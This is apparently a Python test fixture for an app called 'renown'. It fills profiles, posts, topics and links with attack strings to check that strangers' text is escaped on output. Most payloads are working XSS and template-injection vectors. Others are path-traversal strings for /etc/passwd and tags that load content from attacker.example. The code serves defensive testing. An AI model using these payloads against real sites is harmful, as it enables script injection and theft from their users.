"""Attacks in every text that a stranger can set."""

import csv
import json
import sqlite3
from datetime import UTC, datetime
from itertools import cycle
from pathlib import Path
from typing import Any, Final

from infra.local.served import renown
from renown.lake import FolderLake
from renown.people import Link, People, Profile, save

DAY: Final = datetime(2026, 1, 1, tzinfo=UTC)

HIT: Final = "hit"
"""What every attack writes into the window where it succeeds."""

ATTACKS: Final = (
    "<script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    '"><script>window.hit=1</script>',
    "'><img src=x onerror=window.hit=1>",
    "<img src=x onerror=window.hit=1>",
    '" autofocus onfocus=window.hit=1 x="',
    "' onmouseover='window.hit=1",
    "<svg/onload=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<details open ontoggle=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<object data=data:text/html,<script>parent.hit=1</script>>",
    "<embed src=javascript:window.hit=1>",
    "<a href=javascript:window.hit=1>here</a>",
    "<form action=javascript:window.hit=1><button>go</button></form>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=0;url=//attacker.example/>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<style>@import'//attacker.example/x.css';*{display:none}</style>",
    "<body onload=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<math><mi xlink:href=javascript:window.hit=1>x</mi></math>",
    "<table background=javascript:window.hit=1>",
    "<!--><script>window.hit=1</script>-->",
    "--><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    "</textarea></style></svg><script>window.hit=1</script>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "{{7*7}}${7*7}#{7*7}<%=7*7%>{%print(7*7)%}",
    "{{constructor.constructor('window.hit=1')()}}",
    "＜script＞window.hit=1＜/script＞",
    "<scr\u200bipt>window.hit=1</scr\u200bipt>",
    "\u202e<script>window.hit=1</script>",
    "<script\u2028>window.hit=1</script>",
    "<ſcript>window.hit=1</ſcript>",
    "../../../../etc/passwd",
    "//attacker.example/%2f..",
    "\u0301" * 60,
    "\U000e0073\U000e0063",
)

REFUSED: Final = next(number for number, attack in enumerate(ATTACKS) if "\u2028" in attack)
"""No account is called so: a line must not end in it."""

LINKS: Final = (
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "java\tscript:window.hit=1",
    " javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:window.hit=1",
    "//attacker.example/",
    "file:///etc/passwd",
    'https://a.example/"onmouseover="window.hit=1',
    "https://a.example/'><script>window.hit=1</script>",
    "https://a.example/\u202egpj.exe",
    "http://[::1]/<svg onload=window.hit=1>",
)

TEXTS: Final = ("name", "who", "reactor", "account", "topic", "segment", "text", "url", "made_of", "voices", "accounts")
"""The fields of stored documents that hold strangers' texts."""


def strangers(home: Path) -> None:
    """Fills `home` with people whose names, accounts, posts, topics and links are attacks, through the ways in that a
    real network's answers take, and publishes it for everybody in it.
    """
    everybody = [_profile(number, attack) for number, attack in enumerate(ATTACKS)]
    save(FolderLake(home / "lake"), People(profiles=tuple(everybody)))
    with (home / "deeds.csv").open("w", newline="", encoding="utf-8") as file:
        table = csv.writer(file)
        table.writerow(("at", "verb", "actor", "author", "object", "topics", "network", "url"))
        table.writerows(_deeds())
    renown(home, "import", "table", str(home / "deeds.csv"), "--network", "net")
    renown(home, "score", "--population", "accounts")
    renown(home, "publish")


def _profile(number: int, attack: str) -> Profile:
    accounts = [_account(number)] if number != REFUSED else []
    links = tuple(Link(account=account, proof="https://a.example/", proved_at=DAY) for account in accounts)
    name = f"{attack} {number}"[:200]
    return Profile(handle=f"stranger-{number}", name=name, opted_in_at=DAY, opted_in_how=attack, links=links)


def _account(number: int) -> str:
    return f"net:{number}{ATTACKS[number]}"


def _deeds() -> list[tuple[str, ...]]:
    """Everybody posts four times on two attacks as topics; everybody reacts to twelve others."""
    deeds: list[tuple[str, ...]] = []
    links = cycle(LINKS)
    for number, attack in enumerate(ATTACKS):
        topics = f"{attack.replace(';', '')};{ATTACKS[number // 6].replace(';', '')}"
        for post in range(4):
            at, thing = f"2026-10-{1 + post:02}T00:00:00Z", f"{attack}/{number}/{post}"
            deeds.append((at, "Create", _account(number), "", thing, topics, "net", next(links)))
            for other in range(1, 13):
                reactor = _account((number + other) % len(ATTACKS))
                verb = ("Like", "Reply", "Announce", "Mention")[other % 4]
                day = f"2026-10-{10 + post:02}T{other:02}:00:00Z"
                deeds.append((day, verb, reactor, _account(number), thing, topics, "net", next(links)))
    return deeds


def poisoned(home: Path) -> None:
    """Writes attacks over every text in the table at `home` that is a stranger's, keys and numbers apart."""
    attacks = cycle((*ATTACKS, *LINKS))

    def poison(value: Any, field: str = "") -> Any:
        if isinstance(value, dict):
            return {key: poison(each, key) for key, each in value.items()}
        if isinstance(value, list):
            return [poison(each, field) for each in value]
        return next(attacks) if isinstance(value, str) and field in TEXTS else value

    with sqlite3.connect(home / "table.sqlite") as table:
        rows = table.execute("SELECT pk, sk, doc FROM items").fetchall()
        for pk, sk, doc in rows:
            table.execute(
                "UPDATE items SET doc = ? WHERE pk = ? AND sk = ?", (json.dumps(poison(json.loads(doc))), pk, sk)
            )
    table.close()
